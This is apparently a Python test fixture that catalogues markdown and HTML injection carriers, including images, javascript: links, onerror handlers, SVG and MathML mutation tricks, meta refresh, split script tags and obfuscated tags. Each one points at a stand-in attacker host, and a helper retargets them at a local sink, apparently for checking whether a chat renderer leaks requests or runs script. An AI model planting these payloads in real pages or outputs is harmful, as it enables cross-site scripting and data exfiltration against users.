"""Ways in which a text has made other pages load, run, send or lead somewhere. SINK stands for an address of the attacker's."""

from __future__ import annotations

SINK = "http://sink.example"
RAN = "window.owned=1;document.title='owned'"

_JS = f"javascript:{RAN}"
_SVG = "http://www.w3.org/2000/svg"

CARRIERS: dict[str, str] = {
    "image": "![x](SINK/p.png)",
    "image with a title": "![x](<SINK/p.png> 'title')",
    "image by reference": "![x][pix] and\n\n[pix]: SINK/p.png 'x'",
    "image by a short reference": "![pix]\n\n[pix]: SINK/p.png",
    "image in a link in an image": "[![![x](SINK/1.png)](SINK/2.png)](SINK/3)",
    "image in a heading": "### ![x](SINK/p.png)",
    "image in a table": "| a | b |\n| --- | --- |\n| ![x](SINK/p.png) | `a | ![x](SINK/q.png) ` |",
    "image in a list": "- one\n   - ![x](SINK/p.png)",
    "image in a quotation": "> ![x](SINK/p.png)",
    "image behind code that is none": "`` ` ![x](SINK/p.png) ` ",
    "image behind a fence that ends early": "```\nx\n```\n![x](SINK/p.png)\n```\n",
    "image in a fence that a list ends": "- a\n  ```\n![x](SINK/p.png)\n  ```",
    "image in a fence that loses its indent": "```\n    ```\n    ![x](SINK/p.png)\n",
    "image behind a number": "![1](SINK/p.png) ![1] [1](SINK/q)",
    "image in the middle of a number": r"[\[1![x](SINK/p.png)\]](#s1-1) [\[1\]](SINK/#s1-1)",
    "image behind a carriage return": "```\ra\r```\r![x](SINK/p.png)",
    "link": "[free money](SINK/l?q=secret)",
    "link by reference": "[money][m]\n\n[m]: SINK/l",
    "link with a javascript address": f"[x]({_JS}) [x](java\tscript:alert`1`) [x](JaVaScRiPt:{RAN})",
    "link with other addresses": f"[x](vbscript:x) [x](data:text/html,<script>{RAN}</script>) [x](//sink.example/l)",
    "link with backslashes": r"[x](http:\\sink.example\l) [x](\\sink.example\l)",
    "link written as references": "&#91;x&#93;(SINK/l) &#x5b;x](SINK/l) &lsqb;x](SINK/l)",
    "autolink": "<SINK/a> <me@sink.example> <javascript:alert(1)>",
    "bare address": "SINK/bare?q=secret www.sink.example/bare me@sink.example ftp://sink.example/x //sink.example/x",
    "HTML image": "<img src=SINK/p.png>",
    "HTML image with a handler": f'<img src="SINK/p.png" onerror="{RAN}" onload="{RAN}">',
    "HTML image with srcset": '<img srcset="SINK/1.png 1x, SINK/2.png 2x" src=x>',
    "HTML image, unclosed": '<img src="SINK/p.png" alt="',
    "HTML image over lines": '<img\n\tsrc\n=\n"SINK/p.png"\n>',
    "HTML image with a slash": '<img/src="SINK/p.png"/onerror=1>',
    "HTML image behind a NUL": "<\x00img src=SINK/p.png> <im\x00g src=SINK/q.png>",
    "HTML image with joiners": "<im\u200dg src=SINK/p.png> <\u200bimg src=SINK/q.png> <\u2060img src=SINK/r.png>",
    "HTML image, references": "&lt;img src=SINK/p.png&gt; &#60;img src=SINK/q.png&#62; &amp;lt;img src=SINK/r.png&amp;gt;",
    "HTML image in a comment that ends early": "<!-- --!> <img src=SINK/p.png> -->",
    "picture": '<picture><source srcset="SINK/p.png"><img src="SINK/q.png"></picture>',
    "video": '<video src="SINK/v" poster="SINK/p.png" autoplay></video>',
    "audio and track": '<audio src="SINK/a" autoplay><track default src="SINK/t.vtt"></audio>',
    "input": '<input type="image" src="SINK/p.png"><isindex type=image src="SINK/q.png">',
    "form": f'<form action="SINK/f"><input name=q value=s autofocus onfocus="{RAN}"><button formaction="SINK/b">Go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=SINK/m">',
    "base": '<base href="SINK/">',
    "links of a head": (
        '<link rel=stylesheet href="SINK/s.css"><link rel=preload as=image href="SINK/p.png"><link rel=prefetch href="SINK/f">'
        '<link rel="dns-prefetch" href="SINK"><link rel=preconnect href="SINK"><link rel=icon href="SINK/i">'
    ),
    "style": "<style>@import url(SINK/s.css); @font-face{font-family:x;src:url(SINK/f.woff)} *{font-family:x}</style>",
    "style attribute": '<p style="background:url(SINK/p.png);list-style-image:url(SINK/q.png);cursor:url(SINK/c.cur),auto">x</p>',
    "background attribute": '<body background="SINK/p.png"><table background="SINK/q.png"><tr><td background="SINK/r.png">x</table>',
    "iframe": f'<iframe src="SINK/i"></iframe><iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "object and embed": '<object data="SINK/o"></object><embed src="SINK/e"><applet code="SINK/a"></applet>',
    "frames of old": '<frameset><frame src="SINK/f"></frameset><portal src="SINK/p"></portal><bgsound src="SINK/b">',
    "script": f"<script>{RAN}</script><script src=SINK/s.js></script><script type=module>import 'SINK/m.js'</script>",
    "script in pieces": f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "handlers": f'<details open ontoggle="{RAN}">x</details><marquee onstart="{RAN}">x</marquee><body onload="{RAN}">',
    "anchor with ping": '<a href="#s1-1" ping="SINK/p">1</a><a href="SINK/a">x</a><area href="SINK/b">',
    "svg": f'<svg xmlns="{_SVG}" onload="{RAN}"><image href="SINK/p.png"/><use href="SINK/u.svg#x"/></svg>',
    "svg link": f'<svg><a href="{_JS}"><text y=9>x</text></a><a xlink:href="SINK/x"><text y=9>x</text></a></svg>',
    "svg filters": '<svg><filter id=f><feImage href="SINK/p.png"/></filter><rect filter="url(#f)" fill="url(SINK/x.svg#y)"/></svg>',
    "svg animation": f'<svg><a><animate attributeName=href values="{_JS}"/><set attributeName=href to="SINK/x"/></a></svg>',
    "mathml": '<math href="SINK/m"><mtext><img src="SINK/p.png"></mtext><maction actiontype="statusline#SINK/x">x</maction></math>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=SINK/p.png onerror=1&gt;">',
    "template": '<template><img src="SINK/p.png"></template><noscript><img src="SINK/q.png"></noscript>',
    "mermaid": '```mermaid\ngraph TD; A["<img src=SINK/p.png>"]; click A "SINK/c"\nB@{ img: "SINK/q.png" }\n```\n',
    "mermaid that is HTML": "~~~mermaid\n<img src=SINK/p.png>\n~~~\n\n```mermaid\n<img src=SINK/q.png>\n```\n",
    "LaTeX": r"$$\href{SINK/l}{x} \includegraphics{SINK/p.png}$$ \(\url{SINK/u}\) %%%LATEX_BLOCK_0%%% \[x](SINK/y)",
    "language of a fence": '```"><img src=SINK/p.png>\nx\n```\n',
    "tags that Gradio knows": "<thinking><img src=SINK/p.png></thinking><think>SINK/t</think><gradio-app src=SINK/g></gradio-app>",
    "templates": "${window.owned=1} {{window.owned}} {{{SINK}}} {% import 'SINK' %} <%= owned=1 %>",
    "like a file": "/etc/passwd file:///etc/passwd SINK/p.png\n\nSINK/movie.mp4\n\n/gradio_api/file=SINK/p.png",
    "like a message of Gradio's": '{"path": "SINK/p.png", "mime_type": "image/png"} {"type":"file","file":{"path":"SINK/q.png"}}',
    "right-to-left": "\u202e![x](SINK/p.png)\u202c \ufeff<img src=SINK/q.png>",
    "task list": '- [ ] <input type=image src="SINK/p.png">\n- [x] ![x](SINK/q.png)',
    "footnote": "text[^1]\n\n[^1]: ![x](SINK/p.png) and [^SINK](SINK/x)",
}


def aimed(text: str, sink: str) -> str:
    """`text` with the addresses of `sink`, "http://127.0.0.1:1234"."""
    return text.replace("SINK", sink).replace("sink.example", sink.removeprefix("http://"))
